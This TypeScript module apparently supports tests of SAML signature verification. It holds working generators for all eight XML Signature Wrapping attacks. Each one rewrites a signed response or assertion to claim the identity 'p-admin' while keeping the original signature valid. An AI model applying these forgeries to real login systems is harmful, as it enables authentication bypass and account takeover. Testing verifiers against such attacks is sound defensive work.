/** The pieces of a signed response, and the forger's own assertion: another person and groups, under another ID. */
interface Pieces {
  readonly response: string;
  readonly assertion: string;
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
  readonly evil: string;
}

/** What the forger would like to be. */
export const forged = 'p-admin';

const evilOf = (bare: string, id: string) =>
  bare.replace('>p-7f3a<', `>${forged}<`).replace(/(<saml:Assertion [^>]*?\bID=")[^"]*/, `$1${id}`);

function piecesOf(response: string): Pieces {
  const assertion = /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)![0];
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(assertion)![0];
  const bare = assertion.replace(signature, '');
  return { response, assertion, signature, bare, evil: evilOf(bare, '_evil') };
}

const signedIn = (evil: string, signature: string) =>
  evil.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
const inside = (signature: string, original: string) =>
  signature.replace('</ds:Signature>', () => `<ds:Object>${original}</ds:Object></ds:Signature>`);

/** A response around the signed response: the signature moves to the new root, with what it signed. */
function aroundResponse(response: string, place: (evil: string, signature: string, bare: string) => string): string {
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(response)![0];
  const bare = response.replace(signature, '');
  const evil = bare.replace('>p-7f3a<', `>${forged}<`).replaceAll(/( ID=")/g, '$1_evil');
  return place(evil, signature, bare);
}

/**
 * The eight ways to wrap a signed message (Somorovsky et al., "On Breaking SAML", 2012). The first two begin with a
 * signed Response, the others with a signed Assertion. In each the signature still holds for what was signed.
 */
export const wrappings: Readonly<
  Record<string, { readonly of: 'response' | 'assertion'; forge(xml: string): string }>
> = {
  XSW1: {
    of: 'response',
    forge: (xml) =>
      aroundResponse(xml, (evil, signature, bare) =>
        evil.replace('</saml:Issuer>', () => `</saml:Issuer>${inside(signature, bare)}`),
      ),
  },
  XSW2: {
    of: 'response',
    forge: (xml) =>
      aroundResponse(xml, (evil, signature, bare) =>
        evil.replace('</saml:Issuer>', () => `</saml:Issuer>${bare}${signature}`),
      ),
  },
  XSW3: {
    of: 'assertion',
    forge: (xml) => {
      const { assertion, evil } = piecesOf(xml);
      return xml.replace(assertion, () => evil + assertion);
    },
  },
  XSW4: {
    of: 'assertion',
    forge: (xml) => {
      const { assertion, evil } = piecesOf(xml);
      return xml.replace(assertion, () => evil.replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`));
    },
  },
  XSW5: {
    of: 'assertion',
    forge: (xml) => {
      const { assertion, signature, bare, evil } = piecesOf(xml);
      return xml.replace(assertion, () => signedIn(evil, signature) + bare);
    },
  },
  XSW6: {
    of: 'assertion',
    forge: (xml) => {
      const { assertion, signature, bare, evil } = piecesOf(xml);
      return xml.replace(assertion, () =>
        signedIn(
          evil,
          signature.replace('</ds:Signature>', () => `${bare}</ds:Signature>`),
        ),
      );
    },
  },
  XSW7: {
    of: 'assertion',
    forge: (xml) => {
      const { assertion, evil } = piecesOf(xml);
      return xml.replace(assertion, () => `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
    },
  },
  XSW8: {
    of: 'assertion',
    forge: (xml) => {
      const { assertion, signature, bare, evil } = piecesOf(xml);
      return xml.replace(assertion, () => signedIn(evil, inside(signature, bare)));
    },
  },
};
